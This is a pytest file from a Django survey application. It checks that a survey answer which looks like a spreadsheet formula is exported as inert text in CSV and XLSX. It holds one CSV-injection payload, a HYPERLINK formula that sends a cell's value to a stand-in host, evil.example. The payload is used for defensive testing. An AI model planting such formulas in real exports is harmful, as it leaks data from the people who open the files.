"""A survey answer that looks like a formula comes out as inert text in CSV and XLSX."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from acompana.surveys import services
from acompana.surveys.tests.factories import full_answers, send, template_questionnaire

ATTACK = '=HYPERLINK("http://evil.example/?x="&A2,"click")'


@pytest.fixture
def answered(world):
    questionnaire = template_questionnaire(world.program)
    distribution = send(questionnaire, cohort=world.program.cohorts.get(), anonymous=False)
    invitation = distribution.invitations.get(user=world.mentee)
    services.response_submit(
        invitation=invitation, answers=full_answers(questionnaire, text=ATTACK), actor=world.mentee
    )
    return questionnaire


def test_a_formula_answer_is_neutralized_in_the_csv_export(world, as_persona, answered):
    url = reverse("surveys:export", args=[world.program.slug, answered.pk, "csv"])
    text = as_persona("coordinator").get(url).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + ATTACK in cells
    assert ATTACK not in cells


def test_a_formula_answer_is_a_text_cell_in_the_xlsx_export(world, as_persona, answered):
    url = reverse("surveys:export", args=[world.program.slug, answered.pk, "xlsx"])
    sheet = load_workbook(io.BytesIO(as_persona("coordinator").get(url).content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
    attack = [c for c in cells if "HYPERLINK" in str(c.value)]
    assert attack and all(c.data_type == "s" and c.value == "'" + ATTACK for c in attack)
    assert not [c for c in cells if c.data_type == "f"]
